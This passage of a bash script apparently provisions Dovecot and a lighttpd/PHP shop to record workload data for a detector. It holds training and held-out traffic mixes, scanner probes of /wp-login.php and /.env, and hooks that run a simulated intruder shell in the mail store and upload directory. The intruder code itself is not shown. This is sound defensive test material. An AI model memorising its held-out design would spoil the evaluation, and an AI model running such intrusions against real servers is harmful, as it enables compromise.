# folders (Projects/..., Lists), LIST, STATUS, EXAMINE, SEARCH by sender and date, copies and
# moves between folders, a folder renamed and deleted, drafts appended, every body fetched;
# POP3 with TOP and no deletion for frank; a failed login (wrong password) once a round.
dovecot_mix_b() {
  local r=$((DC_ROUND += 1)) i u
  dovecot_clients 1 <<L
lmtp dave,erin,frank 2 4000
imap 127.0.0.5 dave list create:Projects/p$((r % 4)) status:INBOX read:INBOX copy:INBOX:Projects/p$((r % 4))
L
  for i in 1 2 3 4 5 6; do
    u=${DC_USERS[3 + (i + r) % 3]}
    case $i in
      1) echo "lmtp dave,frank 3 1200" ;;
      2) echo "imap 127.0.0.6 $u create:Lists search:INBOX:FROM+sender1 move:INBOX:Lists status:Lists" ;;
      3) echo "imap 127.0.0.7 $u examine:INBOX append:Drafts:1800 create:Drafts/old-$r rename:Drafts/old-$r:Drafts/kept-$r fetchall:Lists delete:Drafts/kept-$r" ;;
      4) echo "pop3 127.0.0.8 frank 2 0" ;;
      5) echo "imap 127.0.0.5 $u badpass create:Tmp-$r delete:Tmp-$r search:INBOX:SINCE+1-Dec-2026 list" ;;
      6) echo "imap 127.0.0.6 $u read:Projects/p$((r % 4)) flag:INBOX:\\Answered expunge:Lists" ;;
    esac
  done | dovecot_clients 6
}
# Its scheduled jobs in training: the log rotated and reopened (`doveadm log reopen`), the
# configuration re-read (`doveadm reload`), the monitoring (`doveadm who`, `doveadm mailbox
# status`), index updates (`doveadm index`, directly and queued to the indexer) and a consistency repair (`doveadm
# force-resync`), as root inside the cgroup.
dovecot_maintenance() {
  mv -f "$DC_DIR/log/dovecot.log" "$DC_DIR/log/dovecot.log.1"
  dovecot_adm log reopen
  dovecot_adm reload
  dovecot_adm who
  dovecot_adm mailbox status -u alice "messages unseen vsize" INBOX Archive
  dovecot_adm index -u bob INBOX
  dovecot_adm index -q -u alice '*'
  dovecot_adm force-resync -u carol INBOX
  until_ok dovecot_ready
}

# The generic intruder script as the mail user (an exploited imap process executing a shell)
# in the mail store.
dovecot_inject() { inject_shell dovecot "$DC_VMAIL" "$DC_MAIL"; }
dovecot_labels() { write_labels dovecot "$DC_MAIL"; }

# Held out. New users added to the passwd-file (gina, hank, ivy, jack: new Maildirs appear at
# their first delivery); clients from 127.0.20.1-250 (another offset each round), five
# sessions at a time: the new users create many folders (Clients/..., 2026/01-12) and file
# mail into them, large messages (0.5-2 MB with binary attachments) are delivered and fetched
# whole, users of training read from new addresses, POP3 for a new user. Every 20 s in turn: a
# changed
# setting (the quota plugin with a 50 MB rule, then a larger limit) and `doveadm reload`,
# `doveadm quota get`, Trash emptied (`doveadm expunge ... mailbox Trash all`) and `doveadm
# purge -A`; then a backup of a user into a new directory (`doveadm backup`) and `doveadm who`.
DC_NEW_USERS=(gina hank ivy jack)
dovecot_heldout_deploy() {
  dovecot_add_users "${DC_NEW_USERS[@]}"
  mkdir -p "$DC_DIR/backup"
  chown "$DC_VMAIL:$DC_VMAIL" "$DC_DIR/backup"
}
dovecot_heldout_mix() {
  local r=$((DC_ROUND += 1)) i n u
  for i in 0 1 2 3 4 5 6 7; do
    n=${DC_NEW_USERS[(r + i) % 4]}
    u=${DC_USERS[(r + i) % 6]}
    case $i in
      0) echo "lmtp $n,$u 2 3000" ;;
      1) echo "lmtp $n 1 20000 $((500000 + (r % 4) * 500000))" ;;
      2) echo "imap 127.0.20.$((1 + (r * 7 + i) % 250)) $n create:Clients/c$((r % 9)) create:2026/$(printf %02d $((1 + r % 12))) subscribe:Clients/c$((r % 9)) read:INBOX copy:INBOX:Clients/c$((r % 9)) list" ;;
      3) echo "imap 127.0.20.$((1 + (r * 7 + i) % 250)) $n fetchall:INBOX move:INBOX:2026/$(printf %02d $((1 + r % 12))) status:2026/$(printf %02d $((1 + r % 12))) move:2026/$(printf %02d $((1 + r % 12))):Trash" ;;
      4) echo "imap 127.0.20.$((1 + (r * 7 + i) % 250)) $u read:INBOX search:INBOX:LARGER+100000 append:Sent:9000 expunge:INBOX" ;;
      5) echo "pop3 127.0.20.$((1 + (r * 7 + i) % 250)) $n 2 1" ;;
      6) echo "imap 127.0.20.$((1 + (r * 7 + i) % 250)) $n examine:Trash flag:INBOX:\\Flagged status:INBOX" ;;
      7) echo "lmtp $u,${DC_NEW_USERS[r % 4]} 1 4000 120000" ;;
    esac
  done | dovecot_clients 5
}
DC_HELDOUT_JOBS=0
dovecot_heldout_job() {
  DC_HELDOUT_JOBS=$((DC_HELDOUT_JOBS + 1))
  if [ $((DC_HELDOUT_JOBS % 2)) = 1 ]; then
    sed -i '/^mail_plugins\|^plugin {\|^  quota\|^}  # quota/d' "$DC_CONF"
    printf 'mail_plugins = quota\nplugin {\n  quota = maildir:User quota\n  quota_rule = *:storage=%dM\n}  # quota\n' \
      $((50 * DC_HELDOUT_JOBS)) >>"$DC_CONF"
    doveconf -c "$DC_CONF" -n >/dev/null || die "doveconf failed on $DC_CONF"
    dovecot_adm reload
    until_ok dovecot_ready
    dovecot_adm quota get -u gina
    dovecot_adm expunge -A mailbox Trash all
    dovecot_adm purge -A
  else
    rm -rf "$DC_DIR/backup/hank"
    dovecot_adm backup -u hank "maildir:$DC_DIR/backup/hank"
    dovecot_adm who
  fi
}

# --- lighttpd -----------------------------------------------------------------------------

LIGHTTPD_PORT=18580
LT_DIR=$WORK/lighttpd
LT_CONF=$LT_DIR/conf/lighttpd.conf
LT_HTDOCS=$LT_DIR/htdocs        # the document root (root-owned)
LT_APP=$LT_DIR/app              # the application's include directory and its maintenance script
LT_DATA=$LT_DIR/data            # www-data's: app.sqlite, cache/, uploads/, sessions/, tmp/, reports/
LT_UPLOADS=$LT_DATA/uploads
LT_TOOL=$WORK/lighttpd-client.py   # the HTTP clients (python3 http.client, outside the cgroup)

# lighttpd 1.4.69 (Debian lighttpd) with PHP 8.2 over FastCGI (Debian php-cgi), as its own
# instance, not the system service (its unit disabled): `lighttpd -D -f conf/lighttpd.conf`
# started as root in dw-eval/lighttpd after the config test `lighttpd -tt` (as
# lighttpd.service: ExecStartPre, ExecStart); it binds 127.0.0.1:$LIGHTTPD_PORT, opens its
# logs in log/ and becomes www-data (server.username), then mod_fastcgi spawns the PHP pool
# itself: `php-cgi -c conf/php.ini` twice (max-procs 2, sockets run/php.socket-0 and -1), each
# a parent of PHP_FCGI_CHILDREN=3 children. Its own root-owned config in conf/ (no
# include_shell: Debian's config would run a perl script at each start), conf/conf.d/*.conf
# included. The PHP application: pages in htdocs/ (the front page, a JSON API, sign-in and
# account pages, an upload endpoint, a report page that caches each query's answer in
# data/cache/, a PHP 404 handler) and static assets in htdocs/assets/ (css, js and images in
# nested directories); its includes in app/ (config, lib/*.php) and its maintenance script
# app/maint.php; a SQLite database data/app.sqlite (items, users, notes) read and written
# through PDO; PHP sessions in data/sessions/ (sess_<id>), PHP's upload temporaries in
# data/tmp/, uploads moved into data/uploads/<date>/. lighttpd reopens its logs on HUP (Debian's
# logrotate) and restarts gracefully on USR1 (the unit's ExecReload: config re-read, a new PHP
# pool); TERM stops it and its pool.
lighttpd_provision() {
  if ss -Hltn "sport = :$LIGHTTPD_PORT" | grep -q .; then die "port $LIGHTTPD_PORT is in use"; fi
  rm -rf "$LT_DIR"
  mkdir -p "$LT_DIR"/{conf/conf.d,log,run} "$LT_APP/lib" "$LT_DATA"/{cache,sessions,tmp,reports} "$LT_UPLOADS" \
    "$LT_HTDOCS"/assets/{css,js/lib,img/icons,img/photos/2026}
  lighttpd_config
  lighttpd_app
  lighttpd_static
  lighttpd_db
  lighttpd_client_tool
  chown -R www-data:www-data "$LT_DATA" "$LT_DIR"/{log,run}
  chmod 1733 "$LT_DATA/sessions"   # as Debian's /var/lib/php/sessions
  /usr/sbin/lighttpd -tt -f "$LT_CONF" || die "lighttpd -tt failed on $LT_CONF"
}

# lighttpd_config [MAX_PROCS]: conf/lighttpd.conf (world-readable: a graceful restart re-reads
# it as www-data) and conf/php.ini, the PHP settings of the pool.
lighttpd_config() {
  cat >"$LT_CONF" <<CONF
server.modules = ("mod_access", "mod_alias", "mod_accesslog", "mod_setenv", "mod_fastcgi")
server.document-root = "$LT_HTDOCS"
server.bind = "127.0.0.1"
server.port = $LIGHTTPD_PORT
server.username = "www-data"
server.groupname = "www-data"
server.pid-file = "$LT_DIR/run/lighttpd.pid"
server.errorlog = "$LT_DIR/log/error.log"
server.upload-dirs = ("$LT_DATA/tmp")
server.max-request-size = 8192
server.max-keep-alive-requests = 100
server.max-keep-alive-idle = 5
server.tag = "lighttpd"
server.error-handler-404 = "/404.php"
accesslog.filename = "$LT_DIR/log/access.log"
index-file.names = ("index.php", "index.html")
url.access-deny = ("~", ".inc", ".sqlite")
static-file.exclude-extensions = (".php")
static-file.etags = "enable"
mimetype.assign = (".html" => "text/html; charset=utf-8", ".css" => "text/css", ".js" => "text/javascript",
                   ".png" => "image/png", ".jpg" => "image/jpeg", ".svg" => "image/svg+xml", ".ico" => "image/x-icon",
                   ".txt" => "text/plain", ".woff2" => "font/woff2", ".json" => "application/json")
fastcgi.server = (".php" => ((
  "socket" => "$LT_DIR/run/php.socket",
  "bin-path" => "/usr/bin/php-cgi -c $LT_DIR/conf/php.ini",
  "max-procs" => ${1:-2},
  "bin-environment" => ("PHP_FCGI_CHILDREN" => "3", "PHP_FCGI_MAX_REQUESTS" => "500"),
  "bin-copy-environment" => ("PATH", "LANG"),
  "broken-scriptfilename" => "enable"
)))
include "$LT_DIR/conf/conf.d/*.conf"
CONF
  cat >"$LT_DIR/conf/php.ini" <<INI
session.save_path = "$LT_DATA/sessions"
session.gc_probability = 0
session.cookie_httponly = 1
upload_tmp_dir = "$LT_DATA/tmp"
upload_max_filesize = 4M
post_max_size = 6M
cgi.fix_pathinfo = 1
expose_php = Off
display_errors = Off
log_errors = On
error_log = "$LT_DIR/log/php-error.log"
date.timezone = UTC
INI
  chmod 644 "$LT_CONF" "$LT_DIR/conf/php.ini"
}

# The application, root-owned: app/config.php (its paths), app/bootstrap.php, app/lib/*.php,
# the pages in htdocs/ and app/maint.php (its scheduled job, run by php-cgi from cron).
lighttpd_app() {
  cat >"$LT_APP/config.php" <<PHP
<?php
const DATA_DIR = '$LT_DATA';
const DB_PATH = DATA_DIR . '/app.sqlite';
const CACHE_DIR = DATA_DIR . '/cache';
const UPLOAD_DIR = DATA_DIR . '/uploads';
const SESSION_DIR = DATA_DIR . '/sessions';
const REPORT_DIR = DATA_DIR . '/reports';
const APP_RELEASE = '2.3.0';
PHP
  cat >"$LT_APP/bootstrap.php" <<'PHP'
<?php
require __DIR__ . '/config.php';
require __DIR__ . '/lib/db.php';
require __DIR__ . '/lib/auth.php';
require __DIR__ . '/lib/layout.php';
PHP
  {
    echo '<?php'
    php_pdo_funcs
    cat <<'PHP'
function items(int $page, int $per = 10, string $sort = 'id'): array {
    $order = in_array($sort, ['id', 'name', 'price', 'stock'], true) ? $sort : 'id';
    return query("SELECT id, name, price, stock FROM items ORDER BY $order LIMIT ? OFFSET ?", [$per, ($page - 1) * $per])->fetchAll();
}
function item(int $id): ?array {
    return query('SELECT id, name, price, stock FROM items WHERE id = ?', [$id])->fetch() ?: null;
}
PHP
  } >"$LT_APP/lib/db.php"
  {
    echo '<?php'
    php_session_funcs
    cat <<'PHP'
function check_login(string $user, string $pass): bool {
    $row = query('SELECT hash FROM users WHERE name = ?', [$user])->fetch();
    if (!$row || !hash_equals($row['hash'], hash('sha256', "salt-$user:$pass"))) return false;
    query('UPDATE users SET last_login = ? WHERE name = ?', [time(), $user]);
    return true;
}
function require_user(): string {
    $user = current_user();
    if ($user === null) { header('Location: /login.php', true, 303); exit; }
    return $user;
}
PHP
  } >"$LT_APP/lib/auth.php"
  cat >"$LT_APP/lib/layout.php" <<'PHP'
<?php
function page_header(string $title): void {
    $user = current_user();   // before any output: it may start the session (a cookie header)
    echo '<!doctype html><html><head><title>' . htmlspecialchars($title) . '</title>';
    echo '<link rel="stylesheet" href="/assets/css/site.css"></head><body>';
    echo $user ? '<p>signed in as ' . htmlspecialchars($user) . '</p>' : '<p><a href="/login.php">sign in</a></p>';
}
function page_footer(): void {
    echo '<footer>release ' . APP_RELEASE . '</footer><script src="/assets/js/app.js"></script></body></html>';
}
PHP
  php_not_found >>"$LT_APP/lib/layout.php"
  cat >"$LT_HTDOCS/index.php" <<'PHP'
<?php
require __DIR__ . '/../app/bootstrap.php';
page_header('Shop');
foreach (items(max(1, (int)($_GET['page'] ?? 1)), 8, (string)($_GET['sort'] ?? 'id')) as $i) {
    printf('<p><a href="/api.php?id=%d">%s</a> %d EUR</p>', $i['id'], htmlspecialchars($i['name']), $i['price']);
}
page_footer();
PHP
  cat >"$LT_HTDOCS/api.php" <<'PHP'
<?php
require __DIR__ . '/../app/bootstrap.php';
header('Content-Type: application/json');
$op = (string)($_GET['op'] ?? (isset($_GET['id']) ? 'item' : 'items'));
$body = fn() => json_decode(file_get_contents('php://input'), true) ?? [];
$post = $_SERVER['REQUEST_METHOD'] === 'POST';
try {
    if ($op === 'items') {
        $out = items(max(1, (int)($_GET['page'] ?? 1)), 10, (string)($_GET['sort'] ?? 'id'));
    } elseif ($op === 'item') {
        $out = item((int)($_GET['id'] ?? 0)) ?? ['error' => 'no such item'];
        if (isset($out['error'])) http_response_code(404);
    } elseif ($op === 'search') {
        $out = query('SELECT id, name FROM items WHERE name LIKE ? LIMIT 20', ['%' . ($_GET['q'] ?? '') . '%'])->fetchAll();
    } elseif ($op === 'note' && $post) {
        $in = $body();
        query('INSERT INTO notes (author, body, at) VALUES (?, ?, ?)', [current_user() ?? 'api', substr((string)($in['text'] ?? ''), 0, 20000), time()]);
        http_response_code(201);
        $out = ['id' => (int)db()->lastInsertId()];
    } elseif ($op === 'stock' && $post) {
        $in = $body();
        query('UPDATE items SET stock = max(0, stock + ?) WHERE id = ?', [(int)($in['delta'] ?? 0), (int)($in['id'] ?? 0)]);
        $out = item((int)($in['id'] ?? 0));
    } elseif ($op === 'stats') {
        $out = ['items' => (int)query('SELECT COUNT(*) FROM items')->fetchColumn(),
                'notes' => (int)query('SELECT COUNT(*) FROM notes')->fetchColumn()];
    } else {
        http_response_code($post ? 400 : 405);
        $out = ['error' => 'unknown operation'];
    }
} catch (PDOException $e) {
    http_response_code(500);
    $out = ['error' => 'database'];
}
echo json_encode($out), "\n";
PHP
  cat >"$LT_HTDOCS/report.php" <<'PHP'
<?php
// A sales report per query, cached for 30 s in one file per query (cache/<sha1>.html).
require __DIR__ . '/../app/bootstrap.php';
$q = (string)($_GET['q'] ?? 'all');
$file = CACHE_DIR . '/' . sha1($q . '|' . ($_GET['page'] ?? '1')) . '.html';
if (is_file($file) && filemtime($file) > time() - 30) { readfile($file); exit; }
ob_start();
echo '<!doctype html><html><body><h1>report: ' . htmlspecialchars($q) . '</h1>';
$rows = query('SELECT id, name, price * stock AS value FROM items WHERE name LIKE ? ORDER BY value DESC LIMIT 25',
              ['%' . ($q === 'all' ? '' : $q) . '%'])->fetchAll();
foreach ($rows as $r) printf('<p>%s: %d</p>', htmlspecialchars($r['name']), $r['value']);
echo '</body></html>';
$html = ob_get_flush();
file_put_contents("$file.tmp", $html);
rename("$file.tmp", $file);
PHP
  php_site_pages "$LT_HTDOCS"
  cat >"$LT_HTDOCS/account.php" <<'PHP'
<?php
require __DIR__ . '/../app/bootstrap.php';
$user = require_user();
$files = glob(UPLOAD_DIR . "/*/$user-*");   // uploads/<date>/<user>-<name>
$notes = (int)query('SELECT COUNT(*) FROM notes WHERE author = ?', [$user])->fetchColumn();
page_header('Your account');
printf('<p>%d uploads, %d notes</p><ul>', count($files), $notes);
foreach ($files as $f) printf('<li>%s/%s %d bytes</li>', basename(dirname($f)), htmlspecialchars(basename($f)), filesize($f));
echo '</ul><form method="post" action="/upload.php" enctype="multipart/form-data"><input type="file" name="doc"></form>';
page_footer();
PHP
  {
    cat <<'PHP'
<?php
// An upload filed under its document date: uploads/<YYYY-MM-DD>/<user>-<name>.
require __DIR__ . '/../app/bootstrap.php';
$user = require_user();
PHP
    php_upload_checks
    cat <<'PHP'
$day = preg_match('/^\d{4}-\d{2}-\d{2}$/', $_POST['date'] ?? '') ? $_POST['date'] : date('Y-m-d');
$dir = UPLOAD_DIR . "/$day";
if (!is_dir($dir)) mkdir($dir, 0750);
move_uploaded_file($f['tmp_name'], "$dir/$user-$name");
header('Location: /account.php', true, 303);
PHP
  } >"$LT_HTDOCS/upload.php"
  cat >"$LT_APP/maint.php" <<'PHP'
<?php
// The site's scheduled job: report cache files and sessions past their age removed, the
// database vacuumed or analysed, a status report written to reports/<name>.json.
require __DIR__ . '/config.php';
$opt = getopt('', ['purge-cache:', 'sessions:', 'vacuum', 'analyze', 'report:']);
$now = time();
$purged = $expired = 0;
if (isset($opt['purge-cache'])) {
    foreach (glob(CACHE_DIR . '/*.html') as $f) if (filemtime($f) < $now - (int)$opt['purge-cache'] && unlink($f)) $purged++;
}
if (isset($opt['sessions'])) {
    foreach (glob(SESSION_DIR . '/sess_*') as $f) if (filemtime($f) < $now - (int)$opt['sessions'] && unlink($f)) $expired++;
}
$db = new PDO('sqlite:' . DB_PATH, null, null, [PDO::ATTR_ERRMODE => PDO::ERRMODE_EXCEPTION]);
$db->exec('PRAGMA busy_timeout = 5000');
$db->exec('DELETE FROM notes WHERE at < ' . ($now - 3600));
if (isset($opt['vacuum'])) $db->exec('VACUUM');
if (isset($opt['analyze'])) $db->exec('ANALYZE');
$report = ['at' => date('c'), 'cache_purged' => $purged, 'sessions_expired' => $expired,
           'notes' => (int)$db->query('SELECT COUNT(*) FROM notes')->fetchColumn(), 'db_bytes' => filesize(DB_PATH)];
$out = REPORT_DIR . '/' . preg_replace('/[^a-z0-9-]/', '', $opt['report'] ?? 'daily') . '.json';
file_put_contents("$out.tmp", json_encode($report) . "\n");
rename("$out.tmp", $out);
PHP
}

# Static assets: two stylesheets, scripts (one in js/lib/), icons 1-12, photos 1-24 under
# img/photos/2026/, a favicon and robots.txt.
lighttpd_static() {
  local a=$LT_HTDOCS/assets i
  echo "body { font-family: sans-serif; margin: 2em }" >"$a/css/site.css"
  echo "@media print { nav { display: none } }" >"$a/css/print.css"
  echo "import('/assets/js/lib/util.js')" >"$a/js/app.js"
  echo "export const fmt = n => n.toFixed(2)" >"$a/js/lib/util.js"
  for i in $(seq 1 12); do head -c 900 /dev/urandom >"$a/img/icons/$i.png"; done
  for i in $(seq 1 24); do head -c 6000 /dev/urandom >"$a/img/photos/2026/$i.jpg"; done
  head -c 1150 /dev/urandom >"$LT_HTDOCS/favicon.ico"
  printf 'User-agent: *\nDisallow: /api.php\n' >"$LT_HTDOCS/robots.txt"
}

# lighttpd_users FIRST LAST: users uFIRST .. uLAST (password pw-uNN, stored as a salted
# sha256, as check_login reads it) written into the database by the provisioning system
# (python3's sqlite3, outside the cgroup).
lighttpd_users() {
  python3 - "$LT_DATA/app.sqlite" "$1" "$2" <<'PY'
import hashlib, sqlite3, sys
db = sqlite3.connect(sys.argv[1])
for i in range(int(sys.argv[2]), int(sys.argv[3]) + 1):
    u = "u%02d" % i
    db.execute("INSERT OR REPLACE INTO users (name, hash) VALUES (?, ?)",
               (u, hashlib.sha256(("salt-%s:pw-%s" % (u, u)).encode()).hexdigest()))
db.commit()
PY
}
# The database: items 1-200, users u01-u20, no notes.
lighttpd_db() {
  python3 - "$LT_DATA/app.sqlite" <<'PY'
import sqlite3, sys
db = sqlite3.connect(sys.argv[1])
db.executescript("""
CREATE TABLE items (id INTEGER PRIMARY KEY, name TEXT NOT NULL, price INTEGER NOT NULL, stock INTEGER NOT NULL);
CREATE TABLE users (name TEXT PRIMARY KEY, hash TEXT NOT NULL, last_login INTEGER);
CREATE TABLE notes (id INTEGER PRIMARY KEY, author TEXT NOT NULL, body TEXT NOT NULL, at INTEGER NOT NULL);
CREATE INDEX notes_at ON notes (at);
""")
db.executemany("INSERT INTO items VALUES (?, ?, ?, ?)",
               [(i, "item %d %s" % (i, ("lamp", "chair", "desk", "shelf", "rug")[i % 5]), i * 7 % 90 + 5, i * 13 % 40)
                for i in range(1, 201)])
db.commit()
PY
  lighttpd_users 1 20
}

# The HTTP clients, in python3 (outside the cgroup): reads lines from stdin and runs them JOBS
# at a time, each line one client: `ka SRC STEP...` over one keep-alive connection from SRC
# (an alias of 127.0.0.1), `cpr SRC STEP...` with a new connection per request. A STEP is a
# PATH (GET), head:PATH, cond:PATH (a GET, then the same with If-None-Match and
# If-Modified-Since: 304), note:SIZE (a JSON note POSTed to the API), stock:ID:DELTA (a JSON
# stock update), login:USER, badlogin:USER (a wrong password), upload:NAME:SIZE:DATE (a
# multipart upload of SIZE random bytes, filed under DATE), logout. The session cookie is
# kept for the client's steps.
lighttpd_client_tool() {
  cat >"$LT_TOOL" <<PY
PORT = $LIGHTTPD_PORT
PY
  cat >>"$LT_TOOL" <<'PY'
import concurrent.futures, http.client, json, os, sys, urllib.parse, uuid

class Client:
    def __init__(self, src, keep):
        self.src, self.keep, self.conn, self.cookie = src, keep, None, None

    def request(self, method, path, body=None, headers=None):
        h = dict(headers or {})
        if self.cookie:
            h["Cookie"] = self.cookie
        if not self.keep:
            h["Connection"] = "close"
        if self.conn is None:
            self.conn = http.client.HTTPConnection("127.0.0.1", PORT, timeout=15, source_address=(self.src, 0))
        try:
            self.conn.request(method, path, body=body, headers=h)
            r = self.conn.getresponse()
            data = r.read()
        except (OSError, http.client.HTTPException):
            self.close()
            raise
        for k, v in r.getheaders():
            if k.lower() == "set-cookie" and v.startswith("PHPSESSID="):
                self.cookie = v.split(";", 1)[0]
        if not self.keep or r.will_close:
            self.close()
        return r, data

    def close(self):
        if self.conn is not None:
            self.conn.close()
            self.conn = None

    def form(self, path, fields):
        return self.request("POST", path, urllib.parse.urlencode(fields),
                            {"Content-Type": "application/x-www-form-urlencoded"})

    def step(self, step):
        op, _, arg = step.partition(":")
        a = arg.split(":")
        if step.startswith("/"):
            self.request("GET", step)
        elif op == "head":
            self.request("HEAD", arg)
        elif op == "cond":
            r, _ = self.request("GET", arg)
            h = {k: v for k, v in (("If-None-Match", r.getheader("ETag")), ("If-Modified-Since", r.getheader("Last-Modified"))) if v}
            self.request("GET", arg, headers=h)
        elif op == "note":
            self.request("POST", "/api.php?op=note", json.dumps({"text": "n" * int(a[0])}), {"Content-Type": "application/json"})
        elif op == "stock":
            self.request("POST", "/api.php?op=stock", json.dumps({"id": int(a[0]), "delta": int(a[1])}),
                         {"Content-Type": "application/json"})
        elif op in ("login", "badlogin"):
            self.request("GET", "/login.php")
            self.form("/login.php", {"user": a[0], "pass": "pw-" + a[0] if op == "login" else "wrong"})
            if op == "login":
                self.request("GET", "/account.php")
        elif op == "upload":
            b = uuid.uuid4().hex
            body = ("--%s\r\nContent-Disposition: form-data; name=\"date\"\r\n\r\n%s\r\n"
                    "--%s\r\nContent-Disposition: form-data; name=\"doc\"; filename=\"%s\"\r\n"
                    "Content-Type: application/octet-stream\r\n\r\n" % (b, a[2], b, a[0])).encode()
            body += os.urandom(int(a[1])) + ("\r\n--%s--\r\n" % b).encode()
            self.request("POST", "/upload.php", body, {"Content-Type": "multipart/form-data; boundary=" + b})
            self.request("GET", "/account.php")
        elif op == "logout":
            self.request("GET", "/logout.php")
        else:
            raise ValueError("unknown step " + step)

def client(line):
    kind, src, *steps = line.split()
    c = Client(src, kind == "ka")
    try:
        for s in steps:
            c.step(s)
    except (OSError, http.client.HTTPException) as e:
        print("lighttpd-client: %s: %s" % (line[:60], e), file=sys.stderr)
    finally:
        c.close()

lines = [l for l in sys.stdin.read().splitlines() if l.strip()]
with concurrent.futures.ThreadPoolExecutor(int(sys.argv[1])) as pool:
    list(pool.map(client, lines))
PY
}

LT_PID=
# Started as lighttpd.service does: the config test (`lighttpd -tt`) and lighttpd in the
# foreground, as root, in the cgroup; ready once a PHP page answers. Stopped by TERM (the
# unit's stop: lighttpd stops its PHP pool).
lighttpd_ready() { curl -sf -o /dev/null "http://127.0.0.1:$LIGHTTPD_PORT/api.php?op=stats"; }
lighttpd_start() {
  admin lighttpd root /usr/sbin/lighttpd -tt -f "$LT_CONF"
  launch lighttpd root /usr/sbin/lighttpd -D -f "$LT_CONF"
  LT_PID=$LAUNCHED
  until_ok lighttpd_ready
}
lighttpd_stop() { stop_pid "$LT_PID" TERM; }
# As `systemctl reload lighttpd` (ExecReload): USR1, a graceful restart (the config re-read,
# the logs reopened, a new PHP pool), from outside (heldout14_reload: the signal, the wait).
lighttpd_graceful() { heldout14_reload USR1 "$LT_PID" lighttpd_ready; }
# lighttpd_rotate [GZIP]: Debian's logrotate: the logs renamed to .1 (the previous .1 to .2,
# gzipped with GZIP set: delaycompress), HUP (`invoke-rc.d lighttpd reopen-logs`).
lighttpd_rotate() { rotate_logs HUP "$LT_PID" "${1:-}" "$LT_DIR"/log/{access,error}.log; }
# lighttpd_maint ARGS...: app/maint.php run by php-cgi (the pool's PHP and settings) as
# www-data in the cgroup, as its cron entry would.
lighttpd_maint() {
  admin lighttpd www-data /usr/bin/php-cgi -c "$LT_DIR/conf/php.ini" -d register_argc_argv=On -q \
    -f "$LT_APP/maint.php" -- "$@"
}
# lighttpd_clients JOBS: the clients on stdin (lines for lighttpd-client.py), JOBS at a time.
lighttpd_clients() {
  python3 "$LT_TOOL" "$1" || echo "record-testdata: lighttpd: the clients failed" >&2
}
# lighttpd_seq PREFIX FIRST LAST [SUFFIX]: squid_seq's paths on one line (one client's steps).
lighttpd_seq() { squid_seq "$@" | tr '\n' ' '; }

# Mix A: three keep-alive clients (127.0.0.2-4): the front page, API pages 1-3 and items
# 1-12, reports for six queries (cached for 30 s), the stylesheet, scripts, icons 1-6, photos
# 1-8, robots.txt, two scanner paths (404 through 404.php); a client with a new connection per
# request; a conditional GET of the stylesheet (304); notes and stock updates POSTed to the
# API; two users (u01-u10) sign in, upload a 2-3 kB receipt-N.pdf filed under a November date
# and sign out (one of them); a failed sign-in.
LT_ROUND=0
lighttpd_mix_a() {
  local r=$((LT_ROUND += 1)) q=(lamp chair desk shelf rug all)
  local u1 u2 d
  u1=u$(printf %02d $((1 + r % 10))) u2=u$(printf %02d $((1 + (r + 5) % 10))) d=2026-11-0$((1 + r % 5))
  lighttpd_clients 6 <<L
ka 127.0.0.2 / /api.php?op=items&page=1 /assets/css/site.css /assets/js/app.js /assets/js/lib/util.js $(lighttpd_seq /assets/img/icons/ 1 6 .png) /report.php?q=${q[r % 6]} /favicon.ico
ka 127.0.0.3 /index.php /api.php?op=items&page=$((1 + r % 3)) $(lighttpd_seq '/api.php?id=' $((1 + r % 6)) $((7 + r % 6))) /report.php?q=${q[(r + 1) % 6]} /wp-login.php
ka 127.0.0.4 / $(lighttpd_seq /assets/img/photos/2026/ 1 8 .jpg) /robots.txt /.env note:$((200 + r % 300)) stock:$((1 + r % 40)):-1
cpr 127.0.0.2 / /assets/css/site.css /api.php?op=stats /report.php?q=${q[(r + 2) % 6]} cond:/assets/css/site.css
ka 127.0.0.3 login:$u1 upload:receipt-$r.pdf:$((2048 + r * 37 % 1024)):$d note:120 logout
ka 127.0.0.4 login:$u2 /index.php?page=2 upload:receipt-$r-b.pdf:$((2048 + r * 53 % 1024)):$d
ka 127.0.0.2 badlogin:u0$((1 + r % 9))
L
}
# Mix B: users u11-u20, API pages 4-10, items 40-90 and searches, reports for other queries,
# the print stylesheet, icons 7-12, photos 9-24, HEAD requests, other missing paths, from
# 127.0.0.5-8: one client, then six at a time; 20-60 kB scan-N.png uploads, sessions kept.
lighttpd_mix_b() {
  local r=$((LT_ROUND += 1)) q=(oak pine walnut lamp desk)
  local u=u$((11 + r % 10))
  lighttpd_clients 1 <<L
ka 127.0.0.5 / /index.php?sort=price /api.php?op=items&page=$((4 + r % 7)) /report.php?q=${q[r % 5]} /assets/css/print.css $(lighttpd_seq /assets/img/icons/ 7 12 .png)
L
  lighttpd_clients 6 <<L
ka 127.0.0.6 $(lighttpd_seq '/api.php?id=' $((40 + r % 20)) $((70 + r % 20))) /api.php?op=search&q=${q[(r + 1) % 5]}
ka 127.0.0.7 $(lighttpd_seq /assets/img/photos/2026/ 9 24 .jpg) head:/ head:/assets/css/site.css /admin.php /old/index.html
cpr 127.0.0.8 /index.php?page=3 /report.php?q=${q[(r + 2) % 5]} cond:/assets/js/app.js /api.php?op=stats
ka 127.0.0.5 login:$u upload:scan-$r.png:$((20000 + r * 997 % 40000)):2026-11-1$((r % 10)) /account.php
ka 127.0.0.6 login:u$((11 + (r + 3) % 10)) note:2000 stock:$((50 + r % 60)):2 /index.php?sort=stock logout
ka 127.0.0.8 badlogin:u$((11 + r % 10)) /login.php
L
}
# Its scheduled jobs in training, in turn: the logs rotated (HUP) or a graceful restart
# (USR1, as `systemctl reload`), then app/maint.php: report cache files older than 60 s and
# sessions older than 600 s removed, the database vacuumed, the daily report.
LT_JOBS=0
lighttpd_maintenance() {
  LT_JOBS=$((LT_JOBS + 1))
  if [ $((LT_JOBS % 2)) = 1 ]; then lighttpd_rotate; else lighttpd_graceful; fi
  lighttpd_maint --purge-cache 60 --sessions 600 --vacuum --report daily
}

# The generic intruder script as www-data in the upload directory (an exploited PHP page
# executing a shell).
lighttpd_inject() { inject_shell lighttpd www-data "$LT_UPLOADS"; }
lighttpd_labels() { write_labels lighttpd "$LT_UPLOADS"; }

# Held out. A release deployed from outside the cgroup (root) while the site runs: a new
# static asset directory assets/v2/ (a stylesheet, a script bundle, two fonts, an SVG logo)
# and users u21-u40 imported into the database. Clients from 127.0.24.1-250 (another offset
# each round), five at a time: the new users sign in (new sessions), upload photos, CSV
# exports and documents of 10-400 kB filed under December dates (new dated directories) and
# sign out every other round; the front page sorted and paged in ways never requested, API
# pages 11-20, items 100-200, searches and reports for new queries (new cache files), the new
